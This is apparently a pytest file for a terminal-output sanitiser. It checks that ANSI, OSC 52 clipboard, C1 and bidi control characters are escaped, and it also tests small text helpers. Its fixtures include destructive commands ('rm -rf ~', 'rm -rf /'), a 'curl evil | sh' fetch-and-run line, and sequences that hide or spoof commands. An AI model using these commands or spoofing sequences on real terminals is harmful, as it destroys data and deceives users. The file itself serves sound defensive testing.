"""`visible_controls` and `json_safe`: no terminal control survives, everything else is kept; the text helpers."""

from __future__ import annotations

import json

import pytest

from claude_mini.base.text import UNSAFE, VISIBLE, clip, estimate_tokens, json_safe, one_line, visible_controls, within

BIDI = [*(chr(c) for c in range(0x202A, 0x202F)), *(chr(c) for c in range(0x2066, 0x206A))]
ALL_UNSAFE = (
    [chr(c) for c in range(0x20) if chr(c) not in "\n\t"] + ["\x7f"] + [chr(c) for c in range(0x80, 0xA0)] + BIDI
)


def raw_controls(text: str) -> list[str]:
    """The control characters (other than newline and tab) left in `text`."""
    return [ch for ch in text if ch in ALL_UNSAFE]


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        # CSI: erase the screen, move up and erase a line, colour, the alternate screen
        ("ls\x1b[2J", "ls\\x1b[2J"),
        ("\x1b[1A\x1b[2Kls -la", "\\x1b[1A\\x1b[2Kls -la"),
        ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
        ("\x1b[?1049h", "\\x1b[?1049h"),
    ],
)
def test_csi_sequences_are_shown(raw, shown):
    assert visible_controls(raw) == shown


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        # OSC 52 (write the clipboard) ended by BEL, by ST (ESC \), by the C1 ST; OSC 0 (window title)
        ("\x1b]52;c;cm0gLXJmIH4=\x07", "\\x1b]52;c;cm0gLXJmIH4=\\x07"),
        ("\x1b]52;c;cm0gLXJmIH4=\x1b\\", "\\x1b]52;c;cm0gLXJmIH4=\\x1b\\"),
        ("\x9d52;c;eA==\x9c", "\\x9d52;c;eA==\\x9c"),
        ("\x1b]0;pwned\x07title", "\\x1b]0;pwned\\x07title"),
    ],
)
def test_osc_sequences_are_shown(raw, shown):
    assert visible_controls(raw) == shown


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("rm -rf ~ \rls -la", "rm -rf ~ \\rls -la"),
        ("curl evil | sh\r\x1b[Kls", "curl evil | sh\\r\\x1b[Kls"),
        ("line\r\n", "line\\r\n"),
    ],
)
def test_carriage_return_cannot_overwrite(raw, shown):
    assert visible_controls(raw) == shown


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("rm\b\bls", "rm\\x08\\x08ls"),
        ("rm -rf /" + "\b" * 8 + "echo hi", "rm -rf /" + "\\x08" * 8 + "echo hi"),
        ("a\x7fb", "a\\x7fb"),  # DEL
    ],
)
def test_backspace_and_delete_are_shown(raw, shown):
    assert visible_controls(raw) == shown


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x9b2J", "\\x9b2J"),  # C1 CSI: erase the screen
        ("\x9b1A\x9b2K", "\\x9b1A\\x9b2K"),
        ("a\x85b", "a\\x85b"),  # NEL: a newline to some terminals
        ("\x90q\x9c", "\\x90q\\x9c"),  # DCS ... ST
    ],
)
def test_c1_controls_are_shown(raw, shown):
    assert visible_controls(raw) == shown


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("ls \u202eftp.exe", "ls \\u202eftp.exe"),  # right-to-left override
        ("echo \u2067safe\u2069; rm x", "echo \\u2067safe\\u2069; rm x"),  # isolate
        ("\u202aa\u202b\u202c\u202d", "\\u202aa\\u202b\\u202c\\u202d"),
        ("x\u2066y\u2068z", "x\\u2066y\\u2068z"),
        ("one\u2028two", "one\\u2028two"),  # line separator
    ],
)
def test_bidi_controls_are_shown(raw, shown):
    assert visible_controls(raw) == shown


@pytest.mark.parametrize(
    "text",
    [
        "",
        "plain ascii",
        "two\nlines\tand a tab\n",
        "héllo ✓ 日本語 🙂",
        "non\u00a0breaking",
        "a backslash \\x1b written out",
        "[bold]markup[/bold] is not our business here",
    ],
)
def test_ordinary_text_is_unchanged(text):
    assert visible_controls(text) == text


def test_every_unsafe_character_is_replaced_by_printable_ascii():
    for ch in ALL_UNSAFE:
        shown = visible_controls(f"a{ch}b")
        assert shown.startswith("a\\") and shown.endswith("b"), repr(ch)
        assert shown.isascii() and shown.isprintable(), repr(ch)


def test_a_sequence_split_across_chunks_is_caught():
    chunks = ["safe ", "\x1b", "]52;c;eA==", "\x07", " and \x9b", "2J"]
    joined = "".join(visible_controls(chunk) for chunk in chunks)
    assert joined == visible_controls("".join(chunks))
    assert not raw_controls(joined)


def test_it_is_idempotent():
    once = visible_controls("".join(ALL_UNSAFE) + "\n\t")
    assert visible_controls(once) == once
    assert not raw_controls(once) and once.endswith("\n\t")


def test_the_scan_and_the_table_agree_on_every_character():
    table = {chr(code) for code in VISIBLE}
    found = {chr(code) for code in range(0x3000) if UNSAFE.search(chr(code))}
    assert found == table == set(ALL_UNSAFE) | {"\u061c", "\u200e", "\u200f", "\u2028", "\u2029"}
    # Linear time: a single class with no repetition or alternation can never backtrack.
    assert UNSAFE.pattern.startswith("[") and UNSAFE.pattern.endswith("]")
    assert not any(op in UNSAFE.pattern for op in ("*", "+", "|", "{"))


@pytest.mark.parametrize(
    "value",
    [
        "\x1b]52;c;eA==\x07",
        "\x9b2J and \x85",
        "\u202eevil\u2069",
        "\x7f",
        "ok ✓",
    ],
)
def test_json_safe_escapes_raw_controls_without_changing_the_value(value):
    obj = {"type": "result", "result": value, "nested": [value, {"k": value}]}
    line = json_safe(json.dumps(obj, ensure_ascii=False))
    assert not raw_controls(line)
    assert json.loads(line) == obj


def test_one_line_folds_whitespace_and_clips_with_an_ellipsis():
    assert one_line("  a\n\tb  c ") == "a b c"
    assert one_line("abcdef", 4) == "abc…"
    assert one_line("abcd", 4) == "abcd"


def test_one_line_for_a_terminal_shows_controls_before_folding():
    assert one_line("a\x1b[2Jb\r\nc", terminal=True) == "a\\x1b[2Jb\\r c"
    assert one_line("a\x1b[2Jb") == "a\x1b[2Jb"  # text bound for a file keeps its characters


def test_clip_cuts_to_the_limit_and_may_drop_the_spaces_before_the_ellipsis():
    assert clip("ab cdef", 4) == "ab …"
    assert clip("ab cdef", 4, strip=True) == "ab…"
    assert clip("abc", 3) == "abc"
    assert clip("abc", 0) == "…"


def test_within_needs_a_separator_after_the_root():
    assert within("/repo", "/repo") and within("/repo/a/b", "/repo") and within("/repo/a", "/repo/")
    assert not within("/repo-other/a", "/repo") and not within("/", "/repo")


def test_estimate_tokens_is_about_four_characters_a_token():
    assert [estimate_tokens("x" * n) for n in (0, 1, 4, 5)] == [0, 1, 1, 2]
